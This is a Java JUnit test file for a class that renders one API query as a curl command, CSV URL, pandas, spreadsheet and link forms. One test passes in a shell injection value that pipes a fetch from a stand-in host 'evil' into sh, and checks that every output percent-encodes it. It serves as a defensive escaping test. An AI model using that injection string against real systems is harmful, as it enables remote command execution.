package io.dyad.explorer;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Optional;
import org.junit.jupiter.api.Test;

class CallsTest {

    private final Calls calls = new Calls(() -> Optional.of("https://data.example.org/dyad"));

    @Test
    void theSameQuestionIsPutAsEachToolTakesIt() {
        ToolCalls told = calls.of("/v1/figures?pair=KAZ-KOR");
        assertThat(told.curl()).isEqualTo("curl 'https://data.example.org/dyad/v1/figures?pair=KAZ-KOR'");
        assertThat(told.csv()).isEqualTo("https://data.example.org/dyad/v1/figures?pair=KAZ-KOR&format=csv");
        assertThat(told.link()).isEqualTo("v1/figures?pair=KAZ-KOR&format=csv");
        assertThat(told.isLocal()).isFalse();
        assertThat(new Calls(Optional::empty).of("/v1").isLocal()).isTrue();
    }

    @Test
    void nothingInAnAddressEndsAQuotedText() {
        ToolCalls told = calls.of("/v1/rankings?book=x';curl \"evil\"|sh;`'\\");
        for (String each : new String[] {told.curl(), told.pandas(), told.sheets(), told.link()}) {
            assertThat(each).contains("book=x%27;curl+%22evil%22%7Csh;%60%27%5C");
        }
    }
}
